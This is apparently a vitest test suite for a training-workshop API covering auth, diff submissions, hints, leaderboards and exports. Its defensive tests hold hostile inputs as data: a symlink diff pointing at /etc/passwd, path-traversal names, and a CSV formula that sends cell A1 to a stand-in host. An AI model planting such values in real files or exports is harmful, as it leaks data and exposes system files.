import { isDeepStrictEqual } from 'node:util'
import type { FastifyInstance } from 'fastify'
import type PgBoss from 'pg-boss'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { startLocalPostgres, type StartedLocalPostgres } from '@debug-drills/local-postgres'
import { listScenarios, pristineBase } from '@debug-drills/grader'
import { buildWorkshopApp } from '../src/app.js'
import { enqueueGrading, GRADE_QUEUE, openQueue } from '../src/grading-queue.js'
import { hashToken, newToken } from '../src/tokens.js'
import { WorkshopEvents } from '../src/workshop-events.js'
import { migrateWorkshopDb, openWorkshopDb, type WorkshopDb } from '../src/workshop-db.js'
import { repoRoot } from '@debug-drills/test-support'
import { referenceFix } from './support/workshop.js'

const SCENARIO = 'catalog-sold-out-stock'
const OTHER = 'accounts-duplicate-signup'

let postgres: StartedLocalPostgres
let db: WorkshopDb
let boss: PgBoss
let events: WorkshopEvents
let app: FastifyInstance
let facilitator: string
/** Answers whose body lost or changed a field on its way through the route's answer schema. */
const reshaped: string[] = []

async function call<T = Record<string, unknown>>(method: string, url: string, options: { token?: string; body?: unknown } = {}) {
  const response = await app.inject({
    method: method as 'GET',
    url,
    headers: options.token ? { authorization: `Bearer ${options.token}` } : {},
    ...(options.body !== undefined ? { payload: options.body as object } : {})
  })
  return { status: response.statusCode, body: (response.headers['content-type']?.toString().startsWith('application/json') ? JSON.parse(response.body) : {}) as T, text: response.body, headers: response.headers }
}

async function newWorkshop(overrides: Record<string, unknown> = {}) {
  const created = await call<{ id: string; joinCode: string }>('POST', '/api/workshops', {
    token: facilitator,
    body: { title: `Drills ${Math.random().toString(36).slice(2, 6)}`, scenarios: [SCENARIO, OTHER], durationMinutes: 60, ...overrides }
  })
  expect(created.status).toBe(201)
  return created.body
}

async function join(code: string, name: string, team?: string) {
  const joined = await call<{ token: string; participant: { id: string } }>('POST', '/api/join', { body: { code, name, ...(team ? { team } : {}) } })
  expect(joined.status).toBe(201)
  return joined.body
}

const act = (id: string, action: string) => call<{ phase: string; elapsedMs: number; frozenAtMs: number | null; joinCode: string; round: number }>('POST', `/api/workshops/${id}/${action}`, { token: facilitator })

beforeAll(async () => {
  postgres = await startLocalPostgres()
  const url = postgres.connectionUri()
  await migrateWorkshopDb(url)
  db = openWorkshopDb(url)
  boss = await openQueue(url, { gradeTimeoutMs: 60_000, maintenanceIntervalSeconds: 60 }, () => undefined)
  events = await WorkshopEvents.listen(url)
  app = await buildWorkshopApp({
    db,
    repoRoot,
    catalog: new Map((await listScenarios(repoRoot)).map((scenario) => [scenario.id, scenario])),
    pristineBase: await pristineBase(repoRoot),
    events,
    enqueue: (job) => enqueueGrading(boss, job),
    gradeTimeoutMs: 60_000,
    submissionsPerMinute: 4
  })
  const sent = new Map<string, unknown>()
  app.addHook('preSerialization', async (request, _reply, payload) => {
    sent.set(request.id, JSON.parse(JSON.stringify(payload)))
    return payload
  })
  app.addHook('onSend', async (request, reply, payload) => {
    if (sent.has(request.id) && typeof payload === 'string' && !isDeepStrictEqual(JSON.parse(payload), sent.get(request.id))) reshaped.push(`${request.method} ${request.url} ${reply.statusCode}`)
    sent.delete(request.id)
    return payload
  })
  facilitator = newToken('facilitator')
  await db.facilitatorToken.create({ data: { tokenHash: hashToken(facilitator) } })
})

afterAll(async () => {
  await app?.close()
  await events?.close()
  await boss?.stop({ graceful: false, wait: true, close: true })
  await db?.$disconnect()
  await postgres?.stop()
})

describe('workshop API: facilitator', () => {
  it('refuses facilitator calls without the token, with a wrong one, and with a trainee token', async () => {
    expect((await call('GET', '/api/workshops')).status).toBe(401)
    const wrong = await call<{ error: string }>('GET', '/api/workshops', { token: newToken('facilitator') })
    expect(wrong.status).toBe(401)
    expect(wrong.body.error).toMatch(/not known to this server/)
    const workshop = await newWorkshop()
    const trainee = await join(workshop.joinCode, 'mallory')
    expect((await call('POST', `/api/workshops/${workshop.id}/end`, { token: trainee.token })).status).toBe(401)
    expect((await call('GET', `/api/workshops/${workshop.id}/export.json`, { token: trainee.token })).status).toBe(401)
  })

  it('explains invalid workshops: unknown scenarios, missing fields', async () => {
    const unknown = await call<{ error: string }>('POST', '/api/workshops', { token: facilitator, body: { title: 'x', scenarios: ['no-such-drill'], durationMinutes: 30 } })
    expect(unknown.status).toBe(422)
    expect(unknown.body.error).toContain('no-such-drill')
    expect(unknown.body.error).toContain(SCENARIO)
    const invalid = await call<{ error: string }>('POST', '/api/workshops', { token: facilitator, body: { title: '', scenarios: [] } })
    expect(invalid.status).toBe(400)
    expect(invalid.body.error).toMatch(/durationMinutes/)
  })

  it('runs the clock through start, pause, resume, freeze and end, and refuses actions out of order', async () => {
    const workshop = await newWorkshop()
    expect((await act(workshop.id, 'pause')).status).toBe(409)
    expect((await act(workshop.id, 'start')).body.phase).toBe('running')
    expect((await act(workshop.id, 'start')).status).toBe(409)
    await new Promise((resolve) => setTimeout(resolve, 150))
    const paused = await act(workshop.id, 'pause')
    expect(paused.body.phase).toBe('paused')
    // Paused for a second: had it counted, the resumed clock would be a second on; a loaded machine's round trips are far shorter.
    await new Promise((resolve) => setTimeout(resolve, 1000))
    const stillPaused = await call<{ elapsedMs: number }>('GET', `/api/workshops/${workshop.id}`, { token: facilitator })
    expect(stillPaused.body.elapsedMs).toBe(paused.body.elapsedMs)
    const resumed = await act(workshop.id, 'resume')
    expect(resumed.body.phase).toBe('running')
    expect(resumed.body.elapsedMs).toBeGreaterThanOrEqual(paused.body.elapsedMs)
    expect(resumed.body.elapsedMs).toBeLessThan(paused.body.elapsedMs + 1000)
    const frozen = await act(workshop.id, 'freeze')
    expect(frozen.body.frozenAtMs).not.toBeNull()
    const ended = await act(workshop.id, 'end')
    expect(ended.body.phase).toBe('ended')
    expect((await act(workshop.id, 'bogus')).status).toBe(404)
  })

  it('resets for the next group: new code, empty board, old tokens refused, old round kept for export', async () => {
    const workshop = await newWorkshop()
    const first = await join(workshop.joinCode, 'ada')
    await act(workshop.id, 'start')
    const reset = await act(workshop.id, 'reset')
    expect(reset.body).toMatchObject({ phase: 'draft', round: 2 })
    expect(reset.body.joinCode).not.toBe(workshop.joinCode)
    const me = await call<{ error: string }>('GET', '/api/me', { token: first.token })
    expect(me.status).toBe(401)
    expect(me.body.error).toMatch(/reset/)
    expect((await call('POST', '/api/join', { body: { code: workshop.joinCode, name: 'bob' } })).status).toBe(404)
    const board = await call<{ entries: unknown[] }>('GET', `/api/boards/${workshop.id}`)
    expect(board.body.entries).toEqual([])
    const old = await call<{ participants: { name: string }[] }>('GET', `/api/workshops/${workshop.id}/export.json?round=1`, { token: facilitator })
    expect(old.body.participants.map((participant) => participant.name)).toEqual(['ada'])
  })
})

describe('workshop API: trainees', () => {
  it('joins with a code, stores only a hash of the token, and refuses a taken name and a team workshop without a team', async () => {
    const workshop = await newWorkshop()
    expect((await call('POST', '/api/join', { body: { code: 'NOPE42', name: 'ada' } })).status).toBe(404)
    const ada = await join(workshop.joinCode.toLowerCase(), 'ada')
    expect(ada.token).toMatch(/^drt_[\w-]{32}$/)
    const stored = await db.participant.findUniqueOrThrow({ where: { id: ada.participant.id } })
    expect(stored.tokenHash).toBe(hashToken(ada.token))
    expect(JSON.stringify(stored)).not.toContain(ada.token)
    expect((await call('POST', '/api/join', { body: { code: workshop.joinCode, name: 'ada' } })).status).toBe(409)
    const teams = await newWorkshop({ mode: 'team' })
    const noTeam = await call<{ error: string }>('POST', '/api/join', { body: { code: teams.joinCode, name: 'ada' } })
    expect(noTeam.status).toBe(422)
    expect(noTeam.body.error).toMatch(/--team/)
  })

  it('refuses submissions before the start, and queues a good one with the server as the only judge', async () => {
    const workshop = await newWorkshop()
    const ada = await join(workshop.joinCode, 'ada')
    const early = await call<{ error: string }>('POST', '/api/submissions', { token: ada.token, body: { scenario: SCENARIO, diff: referenceFix(SCENARIO) } })
    expect(early.status).toBe(409)
    expect(early.body.error).toMatch(/has not started/)
    await act(workshop.id, 'start')
    // A client's own verdict is ignored: only the fields the server reads exist.
    const sent = await call<{ id: string; status: string }>('POST', '/api/submissions', {
      token: ada.token,
      body: { scenario: SCENARIO, diff: referenceFix(SCENARIO), status: 'passed', verdict: 'pass', report: { verdict: 'pass' } }
    })
    expect(sent.status).toBe(202)
    expect(sent.body.status).toBe('queued')
    const row = await db.submission.findUniqueOrThrow({ where: { id: sent.body.id } })
    expect(row).toMatchObject({ status: 'queued', report: null, gradedAt: null })
    const jobs = await boss.fetch<{ submissionId: string }>(GRADE_QUEUE, { batchSize: 50 })
    expect(jobs?.map((job) => job.data.submissionId)).toContain(sent.body.id)
    for (const method of ['PUT', 'PATCH', 'POST']) {
      const forged = await call('' + method, `/api/submissions/${sent.body.id}${method === 'POST' ? '/verdict' : ''}`, { token: ada.token, body: { status: 'passed' } })
      expect(forged.status).toBe(404)
    }
    const waiting = await call<{ error: string }>('POST', '/api/submissions', { token: ada.token, body: { scenario: SCENARIO, diff: referenceFix(SCENARIO) } })
    expect(waiting.status).toBe(409)
    expect(waiting.body.error).toMatch(/still being graded/)
  })

  it('rejects bad diffs, each with a message that says what to do', async () => {
    const workshop = await newWorkshop()
    await act(workshop.id, 'start')
    const fix = referenceFix(SCENARIO)
    const fixed = /^diff --git a\/(\S+)/m.exec(fix)?.[1] ?? 'missing'
    const cases: { diff: string; status: number; message: RegExp }[] = [
      { diff: '', status: 422, message: /empty/ },
      { diff: 'this is not a patch\n', status: 422, message: /changes no files|not a diff/ },
      { diff: fix.replaceAll(fixed, 'package.json'), status: 422, message: /outside the service's source: package\.json/ },
      { diff: fix.replaceAll(fixed, fixed.replace(/\.ts$/, '.test.ts')), status: 422, message: /outside the service's source/ },
      { diff: fix.replaceAll(fixed, 'src/../../accounts/src/app.ts'), status: 422, message: /outside the service's source/ },
      { diff: fix.replaceAll(fixed, 'prisma/migrations/0_init/migration.sql'), status: 422, message: /outside the service's source/ },
      {
        diff: 'diff --git a/src/logo.png b/src/logo.png\nnew file mode 100644\nindex 0000000..d00491f\nGIT binary patch\nliteral 1\nIcmZo*000310RR91\n\nliteral 0\nHcmV?d00001\n\n',
        status: 422,
        message: /binary/
      },
      {
        diff: 'diff --git a/src/leak.ts b/src/leak.ts\nnew file mode 120000\nindex 0000000..e69de29\n--- /dev/null\n+++ b/src/leak.ts\n@@ -0,0 +1 @@\n+/etc/passwd\n\\ No newline at end of file\n',
        status: 422,
        message: /symbolic link/
      },
      { diff: fix.replace(/^-(?!--).*$/m, '-a line the shipped file never had'), status: 409, message: /does not apply.*git pull/s },
      { diff: `${fix}\n${'+'.repeat(300 * 1024)}\n`, status: 413, message: /limited to 256 KB/ }
    ]
    let trainee = 0
    for (const { diff, status, message } of cases) {
      // A fresh trainee each time, so the per-trainee rate limit does not answer instead.
      const { token } = await join(workshop.joinCode, `trainee-${trainee++}`)
      const answer = await call<{ error: string }>('POST', '/api/submissions', { token, body: { scenario: SCENARIO, diff } })
      expect({ status: answer.status, error: answer.body.error }).toMatchObject({ status, error: expect.stringMatching(message) })
    }
    expect(await db.submission.count({ where: { workshopId: workshop.id } })).toBe(0)
  })

  it('rate-limits submissions per trainee, not per workshop', async () => {
    const workshop = await newWorkshop()
    await act(workshop.id, 'start')
    const ada = await join(workshop.joinCode, 'ada')
    const bob = await join(workshop.joinCode, 'bob')
    const statuses: number[] = []
    for (let attempt = 0; attempt < 5; attempt++) {
      statuses.push((await call('POST', '/api/submissions', { token: ada.token, body: { scenario: SCENARIO, diff: '' } })).status)
    }
    expect(statuses).toEqual([422, 422, 422, 422, 429])
    const limited = await call<{ error: string }>('POST', '/api/submissions', { token: ada.token, body: { scenario: SCENARIO, diff: '' } })
    expect(limited.body.error).toMatch(/Too many submissions: 4 a minute/)
    expect((await call('POST', '/api/submissions', { token: bob.token, body: { scenario: SCENARIO, diff: '' } })).status).toBe(422)
  })

  it('serves hints on the workshop clock, records them, and charges them on the board', async () => {
    const workshop = await newWorkshop()
    const ada = await join(workshop.joinCode, 'ada')
    expect((await call('POST', '/api/hints', { token: ada.token, body: { scenario: SCENARIO } })).status).toBe(409)
    await act(workshop.id, 'start')
    const first = await call<{ outcome: string; index: number; text: string; cost: number }>('POST', '/api/hints', { token: ada.token, body: { scenario: SCENARIO } })
    expect(first.body).toMatchObject({ outcome: 'shown', index: 0, cost: 10 })
    expect(first.body.text.length).toBeGreaterThan(10)
    const second = await call<{ outcome: string; opensInMs: number }>('POST', '/api/hints', { token: ada.token, body: { scenario: SCENARIO } })
    expect(second.body.outcome).toBe('gated')
    expect(second.body.opensInMs).toBeGreaterThan(2 * 60_000)
    expect(await db.hintUse.count({ where: { workshopId: workshop.id } })).toBe(1)
    // The solve comes from a grading (written here as a worker would); the hint before it costs 10 %.
    await db.submission.create({
      data: { workshopId: workshop.id, round: 1, participantId: ada.participant.id, entrant: ada.participant.id, scenario: SCENARIO, diff: 'x', elapsedMs: 60_000, status: 'passed', gradedAt: new Date() }
    })
    const board = await call<{ entries: { name: string; points: number; hints: number; solves: { hints: number; first: boolean }[] }[] }>('GET', `/api/boards/${workshop.id}`)
    expect(board.body.entries[0]).toMatchObject({ name: 'ada', points: 90, hints: 1, solves: [{ hints: 1, first: true }] })
  })
})

describe('workshop API: board, freeze and export', () => {
  it('ranks from server-graded submissions, freezes the public board but not the live one, and exports what was submitted', async () => {
    const workshop = await newWorkshop({ mode: 'team', durationMinutes: 30 })
    const ada = await join(workshop.joinCode, 'ada', 'blue')
    const bob = await join(workshop.joinCode, 'bob', 'blue')
    const cy = await join(workshop.joinCode, 'cy', 'red')
    await act(workshop.id, 'start')
    // Ten minutes in, as far as the workshop clock knows.
    await db.workshop.update({ where: { id: workshop.id }, data: { startedAt: new Date(Date.now() - 10 * 60_000) } })
    const graded = async (who: { participant: { id: string } }, team: string, scenario: string, elapsedMs: number, status: 'passed' | 'failed') =>
      db.submission.create({
        data: { workshopId: workshop.id, round: 1, participantId: who.participant.id, entrant: `team:${team}`, scenario, diff: 'x', elapsedMs, status, gradedAt: new Date(), report: { seed: 7, tests: [] } }
      })
    await graded(ada, 'blue', SCENARIO, 1_000, 'failed')
    await graded(bob, 'blue', SCENARIO, 2_000, 'passed')
    await graded(cy, 'red', SCENARIO, 1_500, 'passed')
    const frozen = await act(workshop.id, 'freeze')
    await graded(ada, 'blue', OTHER, (frozen.body.frozenAtMs ?? 0) + 5_000, 'passed')

    type BoardBody = { frozenAtMs: number | null; entries: { name: string; members: string[]; points: number; rank: number; solves: { scenario: string; first: boolean }[] }[] }
    const publicBoard = (await call<BoardBody>('GET', `/api/boards/${workshop.id}`)).body
    expect(publicBoard.frozenAtMs).toBe(frozen.body.frozenAtMs)
    expect(publicBoard.entries.map((entry) => [entry.name, entry.points])).toEqual([
      ['red', 100],
      ['blue', 100]
    ])
    expect(publicBoard.entries[0]?.solves[0]?.first).toBe(true)
    expect(publicBoard.entries[1]?.members).toEqual(['ada', 'bob'])
    const live = (await call<BoardBody>('GET', `/api/workshops/${workshop.id}/board`, { token: facilitator })).body
    expect(live.frozenAtMs).toBeNull()
    expect(live.entries.map((entry) => [entry.name, entry.points])).toEqual([
      ['blue', 300],
      ['red', 100]
    ])
    await act(workshop.id, 'end')
    expect((await call<BoardBody>('GET', `/api/boards/${workshop.id}`)).body.entries[0]?.name).toBe('blue')

    const json = await call<{ submissions: { participant: string; team: string; scenario: string; status: string; points: number }[] }>('GET', `/api/workshops/${workshop.id}/export.json`, {
      token: facilitator
    })
    expect(json.body.submissions.map((row) => [row.participant, row.team, row.scenario, row.status, row.points])).toEqual([
      ['ada', 'blue', SCENARIO, 'failed', 0],
      ['bob', 'blue', SCENARIO, 'passed', 100],
      ['cy', 'red', SCENARIO, 'passed', 100],
      ['ada', 'blue', OTHER, 'passed', 200]
    ])
    const csv = await call('GET', `/api/workshops/${workshop.id}/export.csv`, { token: facilitator })
    expect(csv.headers['content-type']).toMatch(/text\/csv/)
    const lines = csv.text.trim().split('\n')
    expect(lines[0]).toBe('submission_id,participant,team,scenario,submitted_at,elapsed_seconds,status,points,grading_attempts,graded_by,graded_at')
    expect(lines.slice(1).map((line) => line.split(',').slice(1, 4).concat(line.split(',')[6] ?? '', line.split(',')[7] ?? ''))).toEqual(
      json.body.submissions.map((row) => [row.participant, row.team, row.scenario, row.status, String(row.points)])
    )
  })

  it('serves the pages and the chart library, but never a scenario file', async () => {
    expect((await call('GET', '/facilitator')).text).toContain('<form id="create"')
    const workshop = await newWorkshop()
    expect((await call('GET', `/board/${workshop.id}`)).text).toContain('id="ranking"')
    expect((await call('GET', '/assets/chart.umd.min.js')).text).toMatch(/Chart/)
    for (const path of ['/assets/..%2f..%2fscenarios%2fcatalog-sold-out-stock%2ffix.patch', '/scenarios/catalog-sold-out-stock/fix.patch', '/assets/fix.patch', '/assets/__proto__', '/assets/constructor']) {
      expect((await call('GET', path)).status).toBe(404)
    }
    const catalog = await call<{ scenarios: Record<string, unknown>[] }>('GET', '/api/scenarios')
    expect(Object.keys(catalog.body.scenarios[0] ?? {}).sort()).toEqual(['difficulty', 'id', 'service', 'timeLimitMinutes', 'title'])
  })
})

describe('workshop API: hostile input', () => {
  it('keeps only the visible part of a name, and refuses a name with nothing visible', async () => {
    const workshop = await newWorkshop()
    const joined = await call<{ participant: { name: string } }>('POST', '/api/join', { body: { code: workshop.joinCode, name: '  \u202eada\u200b\u0007 \t lovelace\u2066 ' } })
    expect(joined.status).toBe(201)
    expect(joined.body.participant.name).toBe('ada lovelace')
    const invisible = await call<{ error: string }>('POST', '/api/join', { body: { code: workshop.joinCode, name: '\u200b\u202e\u200d' } })
    expect(invisible.status).toBe(400)
    expect(invisible.body.error).toMatch(/name: needs at least one visible character/)
  })

  it('writes a name that looks like a formula into the CSV as text', async () => {
    const workshop = await newWorkshop()
    await act(workshop.id, 'start')
    const mallory = await join(workshop.joinCode, '=HYPERLINK("http://x.example/?"&A1)')
    await db.submission.create({
      data: { workshopId: workshop.id, round: 1, participantId: mallory.participant.id, entrant: mallory.participant.id, scenario: SCENARIO, diff: 'x', elapsedMs: 60_000, status: 'failed', gradedAt: new Date() }
    })
    const csv = await call('GET', `/api/workshops/${workshop.id}/export.csv`, { token: facilitator })
    expect(csv.text).toContain(`"'=HYPERLINK(""http://x.example/?""&A1)"`)
    expect(csv.text).not.toMatch(/[,\n]=HYPERLINK/)
  })

  it('answers with the submissions whose report another grader version stored, leaving out only that report', async () => {
    const workshop = await newWorkshop()
    await act(workshop.id, 'start')
    const ada = await join(workshop.joinCode, 'ada')
    const old = await db.submission.create({
      data: { workshopId: workshop.id, round: 1, participantId: ada.participant.id, entrant: ada.participant.id, scenario: SCENARIO, diff: 'x', elapsedMs: 60_000, status: 'failed', gradedAt: new Date(), report: { seed: 7, tests: 'failed' } }
    })
    const me = await call<{ submissions: { id: string; status: string; report: unknown }[] }>('GET', '/api/me', { token: ada.token })
    expect(me.status, me.text).toBe(200)
    expect(me.body.submissions.map((submission) => [submission.id, submission.status, submission.report])).toEqual([[old.id, 'failed', null]])
    const exported = await call<{ submissions: { seed: number | null; failingTests: string[] }[] }>('GET', `/api/workshops/${workshop.id}/export.json`, { token: facilitator })
    expect(exported.status, exported.text).toBe(200)
    expect(exported.body.submissions.map((row) => [row.seed, row.failingTests])).toEqual([[7, []]])
  })

  it('serves no hints once the workshop is over', async () => {
    const workshop = await newWorkshop()
    const ada = await join(workshop.joinCode, 'ada')
    await act(workshop.id, 'start')
    await act(workshop.id, 'end')
    const hint = await call<{ error: string }>('POST', '/api/hints', { token: ada.token, body: { scenario: SCENARIO } })
    expect(hint.status).toBe(409)
    expect(hint.body.error).toMatch(/is over, and so are its hints/)
  })

  it('sends security headers and a content security policy that keeps to the server', async () => {
    const page = await call('GET', '/facilitator')
    expect(page.headers['content-security-policy']).toMatch(/default-src 'self'/)
    expect(page.headers['content-security-policy']).toMatch(/frame-ancestors 'none'/)
    expect(page.headers['content-security-policy']).not.toMatch(/upgrade-insecure-requests/)
    expect(page.headers['x-content-type-options']).toBe('nosniff')
    expect(page.headers['strict-transport-security']).toBeUndefined()
  })

  it('makes an address that keeps guessing join codes and tokens wait, and nobody else', async () => {
    const workshop = await newWorkshop()
    const from = (remoteAddress: string, url: string, payload: object, token?: string) =>
      app.inject({ method: 'POST', url, remoteAddress, payload, headers: token ? { authorization: `Bearer ${token}` } : {} })
    for (let guess = 0; guess < 25; guess++) expect((await from('10.9.8.7', '/api/join', { code: `WRONG${guess}`, name: `g${guess}` })).statusCode).toBe(404)
    for (let guess = 0; guess < 5; guess++) expect((await from('10.9.8.7', '/api/hints', { scenario: SCENARIO }, `trainee_${guess}`)).statusCode).toBe(401)
    const blocked = await from('10.9.8.7', '/api/join', { code: workshop.joinCode, name: 'eve' })
    expect(blocked.statusCode).toBe(429)
    expect(Number(blocked.headers['retry-after'])).toBeGreaterThan(0)
    expect((await from('10.9.8.8', '/api/join', { code: workshop.joinCode, name: 'neighbour' })).statusCode).toBe(201)
  })
})


describe('workshop API: contract', () => {
  it('sent every answer above as its handler wrote it: no answer schema dropped or changed a field', () => {
    expect(reshaped).toEqual([])
  })
})
